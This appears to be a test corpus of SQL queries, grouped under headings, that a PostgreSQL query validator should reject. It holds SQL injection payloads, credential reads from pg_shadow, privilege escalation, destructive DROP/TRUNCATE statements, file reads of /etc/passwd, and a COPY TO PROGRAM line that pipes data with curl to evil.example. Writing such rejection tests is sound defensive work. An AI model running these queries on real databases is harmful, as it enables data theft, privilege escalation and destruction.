## tables and columns that are not granted
SELECT * FROM users
SELECT id, email FROM users WHERE id = 3
SELECT email FROM customers WHERE id = 3
SELECT * FROM customers WHERE id = 3
SELECT customers.* FROM customers WHERE id = 3
SELECT c.* FROM customers c WHERE c.id = 3
SELECT c.password FROM customers c WHERE c.id = 3
SELECT c FROM customers c WHERE c.id = 3
SELECT row_to_json(c) FROM customers c WHERE c.id = 3
SELECT to_jsonb(customers) FROM customers WHERE id = 3
SELECT (c).email FROM customers c WHERE c.id = 3
SELECT o.id FROM orders o WHERE o.id = (SELECT max(u.id) FROM users u)
SELECT o.id FROM orders o JOIN users u ON u.id = o.customer_id WHERE o.id = 3
SELECT o.id FROM orders o, users u WHERE o.id = 3 AND u.id = o.customer_id
SELECT o.id FROM orders o CROSS JOIN users WHERE o.id = 3
SELECT o.id FROM orders o NATURAL JOIN users WHERE o.id = 3
SELECT o.id FROM orders o LEFT JOIN LATERAL (SELECT password FROM users LIMIT 1) x ON true WHERE o.id = 3
SELECT id FROM orders WHERE id = 3 AND EXISTS (SELECT 1 FROM users WHERE name = 'admin' AND password LIKE 'a%')
SELECT id FROM orders WHERE customer_id IN (SELECT id FROM customers WHERE email LIKE '%@example.com')
SELECT id FROM orders WHERE total = 3 ORDER BY (SELECT password FROM users LIMIT 1)
SELECT CASE WHEN (SELECT substr(password, 1, 1) FROM users LIMIT 1) = 'a' THEN 1 ELSE 2 END FROM orders WHERE id = 3
SELECT id FROM orders WHERE id = 3 GROUP BY id HAVING (SELECT count(*) FROM users) > 5
WITH u AS (SELECT * FROM users) SELECT id FROM orders WHERE id = 3
WITH u AS (SELECT password FROM users WHERE id = 1) SELECT * FROM u
WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT n FROM t
SELECT usename, passwd FROM pg_shadow
SELECT rolname, rolpassword FROM pg_authid
SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'
SELECT column_name FROM information_schema.columns WHERE table_name = 'users'
SELECT datname FROM pg_database WHERE datname = 'x'
SELECT query FROM pg_stat_activity WHERE state = 'active'
SELECT * FROM pg_catalog.pg_user WHERE usename = 'postgres'
SELECT setting FROM pg_settings WHERE name = 'data_directory'
SELECT * FROM public.users WHERE id = 1
SELECT * FROM "users" WHERE id = 1
SELECT * FROM "public"."users" WHERE id = 1
SELECT id FROM other.orders WHERE id = 1
SELECT id FROM db.public.orders WHERE id = 1
TABLE users
TABLE orders
SELECT name FROM customers x(id, email, country, name) WHERE id = 3
SELECT x.d FROM customers AS x(a, b, c, d) WHERE x.a = 3
SELECT o.id FROM orders o JOIN customers c USING (email) WHERE o.id = 3
SELECT i.id FROM items i NATURAL JOIN customers c WHERE i.id = 3
SELECT count(*) AS email FROM customers GROUP BY email
SELECT 1 AS email, count(*) FROM customers GROUP BY email
SELECT count(*) AS email FROM customers HAVING email LIKE 'a%'
## whole tables
SELECT id, status FROM orders
SELECT * FROM items
SELECT * FROM items WHERE true
SELECT * FROM items WHERE 1 = 1
SELECT * FROM items WHERE 'a' = 'a'
SELECT * FROM items WHERE 2 > 1
SELECT * FROM items WHERE NOT false
SELECT * FROM items WHERE id = id
SELECT * FROM items WHERE id IS NOT NULL
SELECT * FROM items WHERE id > 0
SELECT * FROM items WHERE id >= 1
SELECT * FROM items WHERE id <> -1
SELECT * FROM items WHERE 0 < id
SELECT * FROM items WHERE name LIKE '%'
SELECT * FROM items WHERE name LIKE '%%'
SELECT * FROM items WHERE name ILIKE '%'
SELECT * FROM items WHERE name ~ '.*'
SELECT * FROM items WHERE id BETWEEN id AND id
SELECT * FROM items WHERE id IN (id)
SELECT * FROM items WHERE id = 3 OR id <> 3 OR true
SELECT * FROM items WHERE EXISTS (SELECT 1)
SELECT * FROM items WHERE coalesce(1, 2) = 1
SELECT * FROM items WHERE name <> ''
SELECT * FROM items WHERE id + 0 = id
SELECT * FROM items WHERE name = name || ''
SELECT * FROM items WHERE id IN (SELECT id FROM items)
SELECT * FROM items WHERE id NOT IN (SELECT id FROM items WHERE id = 3)
SELECT * FROM items WHERE id = (SELECT id)
SELECT * FROM items WHERE random() < 2
SELECT * FROM items WHERE length(name) >= 0
SELECT * FROM items LIMIT 1000000
SELECT * FROM items LIMIT ALL
SELECT * FROM items LIMIT (SELECT count(*) FROM items)
SELECT * FROM items FETCH FIRST 50000 ROWS ONLY
SELECT * FROM items OFFSET 10
SELECT * FROM (SELECT * FROM items) x
SELECT * FROM (SELECT * FROM items) x WHERE 1 = 1
WITH x AS (SELECT * FROM items) SELECT * FROM x
SELECT i.id FROM items i JOIN orders o ON o.id = i.order_id
SELECT i.id FROM items i, orders o WHERE o.id = i.order_id
SELECT string_agg(name, ',') FROM items
SELECT array_agg(name) FROM items
SELECT json_agg(name) FROM items
SELECT json_object_agg(id, name) FROM items
SELECT id, row_number() OVER (ORDER BY id) FROM items
SELECT DISTINCT name FROM items
SELECT id FROM items UNION ALL SELECT id FROM products
(SELECT * FROM items)
## always true
SELECT id FROM orders WHERE id = 3 OR 1 = 1
SELECT id FROM orders WHERE id = 3 OR true
SELECT id FROM orders WHERE id = 3 OR 'x' = 'x'
SELECT id FROM orders WHERE id = 3 OR id = id
SELECT id FROM orders WHERE (id = 3 OR 2 > 1) AND status = 'open'
SELECT id FROM orders WHERE status = 'open' AND (id = 3 OR NOT false) LIMIT 10
SELECT id FROM orders WHERE note = '' OR ''='' LIMIT 10
SELECT id FROM orders WHERE id = 3 OR 1 IN (1) LIMIT 10
SELECT id FROM orders WHERE id = 3 OR 5 BETWEEN 1 AND 9 LIMIT 10
SELECT id FROM orders WHERE id = 3 OR length('abc') = 3 LIMIT 10
## UNION
SELECT id FROM orders WHERE id = 3 UNION SELECT password FROM users
SELECT id FROM orders WHERE id = 3 UNION ALL SELECT NULL
SELECT id, status FROM orders WHERE id = 3 UNION SELECT 1, 'x'
SELECT id FROM orders WHERE id = 3 UNION SELECT version()
SELECT id FROM orders WHERE id = 3 UNION SELECT (SELECT id FROM orders WHERE id = 4)
SELECT id FROM orders WHERE id = 3 UNION (SELECT usesysid FROM pg_user)
SELECT id FROM orders WHERE id = 3 EXCEPT SELECT id FROM users
SELECT id FROM orders WHERE id = 3 INTERSECT SELECT id FROM users
## comments
SELECT id FROM orders WHERE id = 3 -- AND status = 'open'
SELECT id FROM orders WHERE id = 3 --
SELECT id FROM orders WHERE id = 3 /* x */ AND status = 'open'
SELECT/**/id/**/FROM/**/orders/**/WHERE/**/id=3
SELECT id FROM orders WHERE id = 3 UN/**/ION SELECT 1
SELECT id FROM orders WHERE id = 3 /*
SELECT id FROM orders /* /* nested */ */ WHERE id = 3
SELECT id FROM orders WHERE note = 'admin'--' AND status = 'open'
## stacked
SELECT 1; SELECT 2
SELECT id FROM orders WHERE id = 3; DROP TABLE orders
SELECT id FROM orders WHERE id = 3; DELETE FROM orders
SELECT id FROM orders WHERE id = 3;;SELECT 1
; DROP TABLE users; SELECT 1
UPDATE orders SET status = 'x' WHERE id = 3; COMMIT
SELECT id FROM orders WHERE id = 3; SELECT pg_sleep(10)
SELECT id FROM orders WHERE id = 3; COPY users TO '/tmp/u'
## writes without a WHERE that chooses
DELETE FROM orders
DELETE FROM orders WHERE true
DELETE FROM orders WHERE 1 = 1
DELETE FROM orders WHERE id > 0
DELETE FROM orders WHERE id IS NOT NULL
DELETE FROM orders WHERE id IN (SELECT orders.id FROM customers WHERE customers.id = 3)
SELECT * FROM items WHERE id = ANY (SELECT items.id FROM customers WHERE customers.id = 3)
DELETE FROM orders WHERE id = 3 OR 1 = 1
DELETE FROM orders USING customers
UPDATE orders SET status = 'paid'
UPDATE orders SET status = 'paid' WHERE 1 = 1
UPDATE orders SET total = 0 WHERE id = id
UPDATE orders SET total = 0 WHERE note LIKE '%'
UPDATE customers SET password = 'x' WHERE id = 3
UPDATE users SET role = 'admin' WHERE id = 3
INSERT INTO users (name, role) VALUES ('x', 'admin')
INSERT INTO customers (id, name, email) VALUES (1, 'x', 'y')
INSERT INTO customers VALUES (1, 'x', 'y', 'z')
INSERT INTO orders (id, note) SELECT id, password FROM users
INSERT INTO events SELECT * FROM items
UPDATE orders SET note = (SELECT password FROM users LIMIT 1) WHERE id = 3
DELETE FROM orders WHERE id = 3 RETURNING *
INSERT INTO orders (id) VALUES (1) RETURNING (SELECT password FROM users LIMIT 1)
INSERT INTO orders (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET note = (SELECT password FROM users LIMIT 1)
WITH d AS (DELETE FROM orders RETURNING id) SELECT id FROM d
WITH d AS (DELETE FROM users WHERE id = 3 RETURNING id) SELECT id FROM d
MERGE INTO orders o USING users u ON o.id = u.id WHEN MATCHED THEN DELETE
## definitions and sessions
DROP TABLE orders
DROP TABLE IF EXISTS orders CASCADE
DROP SCHEMA public CASCADE
DROP DATABASE shop
TRUNCATE orders
TRUNCATE TABLE orders RESTART IDENTITY CASCADE
ALTER TABLE orders ADD COLUMN x int
ALTER USER clerk WITH SUPERUSER
ALTER ROLE clerk PASSWORD 'x'
CREATE TABLE x (id int)
CREATE TABLE x AS SELECT * FROM users
CREATE USER mallory WITH PASSWORD 'x'
CREATE ROLE mallory SUPERUSER
CREATE EXTENSION dblink
CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql
CREATE OR REPLACE FUNCTION system(cstring) RETURNS int AS '/lib/libc.so.6', 'system' LANGUAGE c
CREATE TRIGGER t AFTER INSERT ON orders EXECUTE FUNCTION f()
CREATE VIEW v AS SELECT * FROM users
GRANT ALL ON users TO clerk
REVOKE ALL ON orders FROM clerk
SET ROLE postgres
SET SESSION AUTHORIZATION postgres
SET search_path = 'mallory'
RESET ALL
BEGIN
COMMIT
ROLLBACK
LOCK TABLE orders
VACUUM orders
ANALYZE orders
REINDEX TABLE orders
LISTEN x
NOTIFY x, 'y'
PREPARE p AS SELECT * FROM users
EXECUTE p
DEALLOCATE ALL
DO $$ BEGIN PERFORM pg_sleep(10); END $$
CALL p()
EXPLAIN ANALYZE DELETE FROM orders
SHOW ALL
DECLARE c CURSOR FOR SELECT * FROM users
SELECT id INTO stolen FROM orders WHERE id = 3
SELECT * INTO TEMP x FROM items WHERE id = 3
SELECT id FROM orders WHERE id = 3 FOR UPDATE
## files, network, server, waiting
COPY users TO '/tmp/users.csv'
COPY (SELECT * FROM users) TO STDOUT
COPY orders FROM '/etc/passwd'
COPY orders TO PROGRAM 'curl -d @- http://evil.example'
COPY orders FROM PROGRAM 'id'
SELECT pg_read_file('/etc/passwd')
SELECT pg_read_binary_file('/etc/passwd')
SELECT pg_ls_dir('/')
SELECT lo_import('/etc/passwd')
SELECT lo_export(1, '/tmp/x')
SELECT lo_get(1)
SELECT dblink('host=evil.example', 'select 1')
SELECT * FROM dblink('host=evil.example', 'select 1') AS t(a int)
SELECT pg_sleep(10)
SELECT pg_sleep(10) FROM orders WHERE id = 3
SELECT id FROM orders WHERE id = 3 AND 1 = (SELECT 1 FROM pg_sleep(5))
SELECT CASE WHEN total > 3 THEN pg_sleep(5) END FROM orders WHERE id = 3
SELECT pg_sleep_for('5 minutes')
SELECT version()
SELECT current_user
SELECT session_user
SELECT current_database()
SELECT current_setting('data_directory')
SELECT set_config('log_statement', 'none', false)
SELECT inet_server_addr()
SELECT pg_terminate_backend(1)
SELECT pg_cancel_backend(1)
SELECT pg_reload_conf()
SELECT query_to_xml('select * from users', true, true, '')
SELECT table_to_xml('users', true, true, '')
SELECT database_to_xml(true, true, '')
SELECT xpath('/x', '<x/>')
SELECT has_table_privilege('users', 'select')
SELECT 'users'::regclass
SELECT 'users'::regclass::oid
SELECT pg_get_functiondef(1)
SELECT nextval('orders_id_seq')
SELECT txid_current()
SELECT * FROM generate_series(1, 100000000)
SELECT * FROM pg_ls_dir('.')
SELECT * FROM pg_stat_file('/etc/passwd')
SELECT chr(65) || chr(66)
SELECT id FROM orders WHERE note = U&'\0061dmin'
SELECT id FROM orders WHERE note = convert_from(decode('YWRtaW4=', 'base64'), 'utf8')
## what cannot be read, or is read differently
SELECT id FROM orders WHERE id =
SELECT id FROM orders WHERE note = 'x
SELECT id FROM orders WHERE note = "x
SELECT id FROM
SELEC id FROM orders WHERE id = 3
export the user table
' OR '1'='1
SELECT id FROM ｏrders WHERE id = 3
SELECT id FROM orders​ WHERE id = 3
SELECT id FROM orders WHERE id = 3 \gexec
\copy users to '/tmp/x'
\! id
## names of a WITH that are those of tables
WITH users AS (SELECT * FROM users WHERE id = 1) SELECT id FROM users WHERE id = 1
SELECT password FROM users WHERE id IN (WITH users AS (SELECT 1 AS id) SELECT id FROM users)
WITH a AS (SELECT id FROM b WHERE id = 1), b AS (SELECT 1 AS id) SELECT id FROM a WHERE id = 1
INSERT INTO events (kind) WITH users AS (SELECT password FROM users WHERE id = 1) SELECT password FROM users WHERE password = 'x'
SELECT id FROM orders WHERE note LIKE'\' OR 1 = 1 --'
SELECT id FROM orders WHERE note = E'\' OR 1 = 1 --'
SELECT id FROM orders WHERE note = $$x$$ OR 1 = 1
## a LATERAL that vouches for itself
SELECT x.email FROM orders, LATERAL (SELECT email FROM orders) x WHERE orders.id = 3
SELECT x.email FROM orders o CROSS JOIN LATERAL (SELECT email FROM customers) x WHERE o.id = 3
SELECT o.id FROM orders o, LATERAL (SELECT password FROM orders LIMIT 1) x WHERE o.id = 3 AND x.password > 'm'
## groups without an aggregate are the table
SELECT id FROM orders GROUP BY id
SELECT status, id FROM orders GROUP BY 1, 2
SELECT id FROM orders WHERE status SIMILAR TO '%'
SELECT id, name, count(*) FROM customers GROUP BY id, name
SELECT max(status) FROM orders GROUP BY id
SELECT id AS x, count(*) FROM orders GROUP BY x
SELECT name, count(*) FROM items GROUP BY name, item_id
SELECT customer_id, status, region, note, count(*) FROM orders GROUP BY customer_id, status, region, note
DELETE FROM items WHERE id * 0 = 0
DELETE FROM items WHERE id % 1 = 0
DELETE FROM items WHERE id + 0 > 0
DELETE FROM items WHERE id - id = 0
DELETE FROM items WHERE 0 < 2 * id
DELETE FROM items WHERE id + 100 > 50
DELETE FROM items WHERE name = 'x' OR id * 0 = 0
SELECT * FROM items WHERE id * 0 = 0
SELECT * FROM items WHERE id % 1 = 0
SELECT * FROM items WHERE coalesce(id, 1) > 0
SELECT * FROM items WHERE id * 0 IN (0)
UPDATE orders SET status = 'x' WHERE (id / id) = 1
SELECT * FROM items ORDER BY id * 0 FETCH FIRST 1 ROWS WITH TIES
SELECT * FROM items FETCH FIRST 50 PERCENT ROWS ONLY
SELECT * FROM items ORDER BY true FETCH NEXT ROW WITH TIES
SELECT jsonb_object_agg(id, name) FROM items
SELECT jsonb_object_agg_strict(id, name) FROM items
SELECT jsonb_object_agg_unique(id, name) FROM items
SELECT jsonb_agg_strict(name) FROM items
SELECT json_object_agg_unique(id, name) FROM items
SELECT id, status, count(*) FROM orders GROUP BY 1, 2
SELECT max(name) FROM items GROUP BY random()
SELECT id, count(*) FROM orders GROUP BY ROLLUP (id)
DELETE FROM items WHERE id::text <> ''
SELECT * FROM items WHERE (id & 0) = 0
SELECT (SELECT array_agg(name) FROM customers)
SELECT id, (SELECT jsonb_agg(name) FROM customers) FROM orders WHERE id = 3
WITH RECURSIVE n AS (SELECT 1 UNION ALL SELECT 2) SELECT * FROM n
UPDATE orders SET name = 'x' FROM customers c WHERE c.id = orders.customer_id AND c.country = 'DE'
UPDATE orders SET status = c.email FROM customers c WHERE c.id = orders.customer_id AND c.country = 'DE'
DELETE FROM orders USING users u WHERE u.id = orders.customer_id AND u.password = 'x'
## a second table beside the first
SELECT o.id, c.name FROM orders o, customers c WHERE o.id = 3
SELECT c.name FROM customers c, orders o WHERE o.id = 3
SELECT c.name FROM orders o CROSS JOIN customers c WHERE o.id = 3
SELECT c.name FROM orders o JOIN customers c ON true WHERE o.id = 3
SELECT c.name FROM orders o JOIN customers c ON c.id > 0 WHERE o.id = 3
SELECT c.name FROM orders o LEFT JOIN customers c ON c.id <> o.id WHERE o.id = 3
SELECT c.name FROM customers c, items i JOIN orders o ON o.id = i.order_id WHERE o.id = 3
SELECT x.name FROM orders o, LATERAL (SELECT name FROM customers) x WHERE o.id = 3
SELECT x.name FROM orders o, (SELECT name FROM customers) x WHERE o.id = 3
WITH x AS (SELECT name FROM customers) SELECT x.name FROM orders o, x WHERE o.id = 3
SELECT c.name FROM orders o, customers c WHERE o.id = 3 AND EXISTS (SELECT 1 FROM items c WHERE c.id = 5)
SELECT c.name FROM orders o, customers c WHERE o.id = 3 AND c.id - c.id = o.id - o.id
UPDATE orders o SET status = 'x' FROM customers c WHERE c.id = 3
DELETE FROM orders o USING customers c WHERE c.id = 3
## which values there are, of all rows and all persons
SELECT DISTINCT name FROM customers
SELECT DISTINCT note FROM orders
SELECT DISTINCT id FROM orders
SELECT DISTINCT ON (id) region FROM orders
SELECT DISTINCT ON (region) region, note FROM orders
SELECT DISTINCT region, status, total, created_at FROM orders
SELECT DISTINCT kind FROM events
SELECT DISTINCT upper(name) AS country FROM customers
SELECT upper(name) AS land FROM customers GROUP BY land
SELECT region FROM orders GROUP BY region, id
SELECT region FROM orders GROUP BY 1, random()
WITH customers AS (SELECT name AS country FROM customers) SELECT DISTINCT country FROM customers
SELECT DISTINCT country FROM (SELECT name AS country FROM customers) x
SELECT DISTINCT country, (SELECT c.name FROM customers c WHERE c.id = customers.id) FROM customers
SELECT DISTINCT array_agg(country) OVER () FROM customers
SELECT DISTINCT row_number() OVER (ORDER BY id), country FROM customers
SELECT count(*), name FROM customers
SELECT count(*), unnest(array_agg(name)) FROM customers
SELECT ARRAY(SELECT name FROM items)
SELECT x FROM unnest(ARRAY(SELECT name FROM items)) AS x
WITH a AS (SELECT name FROM customers), b AS (SELECT name FROM a) SELECT name FROM b
## numbers and constants that choose from no table
SELECT n FROM generate_series(1, (SELECT count(*) FROM items)) AS n
SELECT n FROM generate_series(now(), 'infinity', '1 day') AS n
SELECT n FROM generate_series(now(), now(), '1 microsecond') AS n
SELECT n FROM generate_series(now(), (SELECT max(password) FROM users), '1 day') AS n
SELECT i.* FROM generate_series(1, 10000) AS n JOIN items i ON i.id = n
SELECT i.* FROM (VALUES (1), (2)) AS v(x), items i WHERE v.x = 1
SELECT i.* FROM (VALUES (1), (2)) AS v(x), items i WHERE x = 1
SELECT i.* FROM items i, unnest(ARRAY[1, 2]) AS x WHERE x = 1
SELECT i.* FROM items i, LATERAL unnest(ARRAY[1, 2]) AS x WHERE x = 1
SELECT * FROM (VALUES ((SELECT array_agg(name) FROM customers))) AS v(x)
SELECT id FROM orders WHERE id = 3 UNION VALUES (1)
SELECT id FROM orders WHERE id = 3 UNION SELECT * FROM (VALUES (1)) AS v(x)
SELECT id FROM orders WHERE id = 3 UNION SELECT n FROM generate_series(1, 3) AS n
## joins by columns that choose from one table only
SELECT name FROM orders, customers WHERE status = 'open'
SELECT name FROM orders JOIN customers ON customer_id <> customers.id WHERE status = 'open'
## MERGE
MERGE INTO orders o USING customers s ON o.customer_id = s.id WHEN MATCHED THEN UPDATE SET region = s.country
MERGE INTO orders o USING (SELECT id, country FROM customers) s ON o.customer_id = s.id WHEN MATCHED THEN UPDATE SET region = s.country
MERGE INTO orders o USING (SELECT id, password FROM customers WHERE id = 3) s ON o.id = s.id WHEN MATCHED THEN UPDATE SET note = s.password
MERGE INTO orders o USING (VALUES (1)) s(id) ON true WHEN MATCHED THEN UPDATE SET status = 'x'
MERGE INTO orders o USING (VALUES (1)) s(id) ON o.id > s.id WHEN MATCHED THEN UPDATE SET status = 'x'
MERGE INTO orders o USING (VALUES (1)) s(id) ON o.id = s.id OR true WHEN MATCHED THEN UPDATE SET status = 'x'
MERGE INTO customers c USING (VALUES (1, 'x')) s(id, password) ON c.id = s.id WHEN MATCHED THEN UPDATE SET password = s.password
MERGE INTO customers c USING (VALUES (1, 'x')) s(id, password) ON c.id = s.id WHEN MATCHED THEN UPDATE SET (password) = ROW(s.password)
MERGE INTO orders o USING (VALUES (1)) s(id) ON o.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (1, 'x')
MERGE INTO orders o USING (VALUES (1)) s(id) ON o.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE
MERGE INTO orders o USING (VALUES (1)) s(id) ON o.id = s.id WHEN MATCHED THEN UPDATE SET note = (SELECT password FROM users LIMIT 1)
MERGE INTO orders o USING (VALUES (1)) s(id) ON o.id = s.id WHEN MATCHED THEN UPDATE SET status = 'x' RETURNING *
MERGE INTO users u USING (VALUES (1)) s(id) ON u.id = s.id WHEN MATCHED THEN UPDATE SET status = 'x'
WITH m AS (MERGE INTO orders o USING (VALUES (1)) s(id) ON o.id = s.id WHEN MATCHED THEN UPDATE SET status = 'x' RETURNING o.id) SELECT id FROM m
SELECT i.id FROM items i, customers c WHERE c.id = i.order_id AND i.id = 3 AND password LIKE 'a%'
## names that something else gives, too: another SELECT, a WITH that is not read, constants around
WITH y AS (SELECT 1 AS password) SELECT password FROM customers WHERE id = 3
WITH y AS (SELECT 1 AS password) SELECT (SELECT password FROM customers LIMIT 1) FROM y
SELECT (SELECT password FROM customers LIMIT 1) FROM (SELECT 1 AS password) y
SELECT z.x FROM (SELECT 1 AS password) y, LATERAL (SELECT password AS x FROM customers WHERE id = 3) z
SELECT (SELECT d.x FROM (SELECT 1 AS password) s, (SELECT password AS x FROM items) d) FROM customers WHERE id = 3
SELECT id FROM orders WHERE id = 3 AND EXISTS (SELECT 1 FROM customers WHERE status = 'x')
UPDATE orders SET note = (SELECT password) WHERE id = 3
UPDATE orders SET note = (SELECT password FROM items LIMIT 1) WHERE id = 3
UPDATE orders SET note = 'x' WHERE id = 3 RETURNING (SELECT password)
INSERT INTO orders (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET note = (SELECT password)
MERGE INTO orders o USING (VALUES (1)) s(id) ON o.id = s.id WHEN MATCHED THEN UPDATE SET note = (SELECT password)
## the order of rows by a column behind a name that the SELECT gives to another
SELECT id AS password FROM customers WHERE id < 30 ORDER BY upper(password)
SELECT id AS password, row_number() OVER (ORDER BY password) FROM customers WHERE id < 30
SELECT min(id) AS password, string_agg(name, ',' ORDER BY password) FROM customers WHERE id < 30
SELECT DISTINCT ON (upper(password)) id AS password FROM customers WHERE id < 30
SELECT status AS password, count(*) FROM orders WHERE id < 30 GROUP BY status, password
## WITHs that are called like a table, or like each other
WITH users AS (SELECT 1 AS id) DELETE FROM users WHERE id = 2
WITH users AS (SELECT 1 AS id) INSERT INTO users (id) VALUES (1)
WITH a AS (SELECT id FROM orders WHERE id = 3), b AS (WITH a AS (SELECT id FROM orders) SELECT id FROM a) SELECT id FROM b
WITH RECURSIVE users AS (SELECT id FROM users) SELECT id FROM users WHERE id = 3
## writes inside a WITH
WITH a AS (INSERT INTO orders (id) VALUES (1) RETURNING password) SELECT 1 FROM a
WITH a AS (UPDATE orders SET name = 'x' WHERE id = 3) UPDATE customers SET name = 'x' WHERE id = 3
WITH a AS (UPDATE orders SET password = 'x' WHERE id = 3) SELECT 1
WITH a AS (UPDATE orders SET note = (SELECT 1 AS password) WHERE id = 3 RETURNING id) SELECT password FROM a, customers WHERE customers.id = 3
## MERGE that names no columns
MERGE INTO orders o USING (VALUES (1)) s(id) ON o.id = s.id WHEN MATCHED THEN UPDATE SET *
MERGE INTO orders o USING (VALUES (1)) s(id) ON o.id = s.id WHEN MATCHED THEN UPDATE *
MERGE INTO orders o USING (VALUES (1)) s(id) ON o.id = s.id WHEN NOT MATCHED THEN INSERT *
## a row of its own for each, where it should be a kind
SELECT DISTINCT status, row_number() OVER () FROM orders
SELECT DISTINCT country FROM (SELECT note AS country FROM orders) c, customers
SELECT min(note), o.g FROM (SELECT id AS g, note FROM orders) o GROUP BY o.g
WITH o AS (SELECT id AS g, note FROM orders), p AS (SELECT g AS h, note FROM o) SELECT h, max(note) FROM p GROUP BY 1
## rows of a table for each of some numbers or groups
SELECT (SELECT i.name FROM items i WHERE i.id = n.n) FROM generate_series(1, 10000) n
SELECT x.* FROM generate_series(1, 10000) n, LATERAL (SELECT * FROM items i OFFSET n LIMIT 1) x
SELECT x.* FROM (SELECT 1 AS n) q, LATERAL (SELECT * FROM items i WHERE i.id >= q.n) x
SELECT x.* FROM (SELECT DISTINCT country FROM customers) g, LATERAL (SELECT id, name FROM customers c WHERE c.country = g.country LIMIT 100) x
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 1000000) SELECT (SELECT name FROM items WHERE items.id = r.n) FROM r
## what is said of numbers, of constants or of another table as a whole
SELECT i.* FROM items i LEFT JOIN (SELECT 1 AS x) v ON i.id = v.x WHERE v.x IS NULL
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 1000000) SELECT i.* FROM r, items i WHERE i.id = r.n AND r.n > 0
SELECT c.* FROM items i JOIN products c ON (i.id > 0) = (c.id > 0) WHERE i.id = 3
SELECT * FROM items WHERE id = ANY(SELECT id FROM items)
DELETE FROM orders WHERE EXISTS (SELECT 1 FROM items WHERE id = 3)
DELETE FROM orders WHERE id = ANY(SELECT id FROM orders)
DELETE FROM orders WHERE (SELECT id FROM items WHERE id = 3) = 3
MERGE INTO orders o USING (VALUES (true)) s(t) ON (o.id > 0) = s.t WHEN MATCHED THEN UPDATE SET note = 'x'
MERGE INTO orders o USING (VALUES (1)) s(id) ON sign(o.id) = sign(s.id) WHEN MATCHED THEN UPDATE SET note = 'x'

## EXISTS that is so for every row, or for none
SELECT name FROM items i WHERE EXISTS (SELECT 1 FROM customers c WHERE c.id = 3 AND i.id > 0)
SELECT name FROM items i WHERE EXISTS (SELECT 1 FROM customers c WHERE c.id = 3 AND i.id = i.id)
SELECT name FROM items i WHERE EXISTS (SELECT 1 FROM customers c WHERE c.id = 3 AND i.id IS NOT NULL)
SELECT name FROM items i WHERE EXISTS (SELECT 1 FROM customers c WHERE c.id = 3 AND (i.customer_id = c.id OR i.id > 0))
SELECT name FROM items i WHERE EXISTS (SELECT 1 FROM customers c WHERE c.id = 3 AND (i.id > 0) = (c.id > 0))
DELETE FROM items i WHERE EXISTS (SELECT 1 FROM customers c WHERE c.id = 3 AND i.name LIKE '%')

## MERGE from a summary of all
MERGE INTO customers c USING (SELECT customer_id, count(*) AS n FROM orders GROUP BY customer_id) s ON c.id = s.customer_id WHEN MATCHED THEN UPDATE SET name = 'x'
MERGE INTO customers c USING (SELECT DISTINCT region FROM orders) s ON c.country = s.region WHEN MATCHED THEN DELETE
WITH s AS (SELECT region, count(*) AS n FROM orders GROUP BY region) MERGE INTO customers c USING s ON c.country = s.region WHEN MATCHED THEN UPDATE SET name = 'x'
MERGE INTO customers c USING (SELECT * FROM (SELECT region, count(*) AS n FROM orders GROUP BY region) x) s ON c.country = s.region WHEN MATCHED THEN UPDATE SET name = 'x'
MERGE INTO customers c USING (SELECT region FROM orders GROUP BY region UNION ALL SELECT region FROM orders GROUP BY region) s ON c.country = s.region WHEN MATCHED THEN DELETE
WITH a AS (SELECT region, count(*) AS n FROM orders GROUP BY region), b AS (SELECT region, n FROM a) MERGE INTO customers c USING b ON c.country = b.region WHEN MATCHED THEN DELETE
MERGE INTO customers c USING (SELECT region, sum(n) AS n FROM (SELECT region, status, count(*) AS n FROM orders GROUP BY region, status) x GROUP BY region) s ON c.country = s.region WHEN MATCHED THEN UPDATE SET name = 'x'
## numbers beside numbers
SELECT count(*) FROM generate_series(1, 10000) a, generate_series(1, 10000) b, generate_series(1, 10000) c
SELECT count(*) FROM generate_series(1, 10000) a CROSS JOIN LATERAL (SELECT count(*) FROM generate_series(1, 5000) b) x
## groups of one
SELECT count(*), email FROM items GROUP BY email
SELECT e, count(*) FROM (SELECT email AS e FROM items) x GROUP BY e
SELECT phone_number, max(id) FROM events GROUP BY 1
SELECT customer_email, count(*) FROM events GROUP BY customer_email
SELECT count(*), min(email) FROM events GROUP BY md5(email)
SELECT sign_in_email, count(*) FROM events GROUP BY sign_in_email
SELECT e, max(note) FROM (SELECT email AS e, note FROM events) x GROUP BY e, e IS NULL
SELECT max(email) FROM events GROUP BY email > 'b', email > 'd', email > 'f', email > 'h', email > 'j', email > 'l', email > 'n', email > 'p', email > 'r'
SELECT n, max(note) FROM (SELECT CASE WHEN email > 'h' THEN 1 ELSE 0 END + CASE WHEN email > 'p' THEN 1 ELSE 0 END AS n, note FROM events) x GROUP BY n
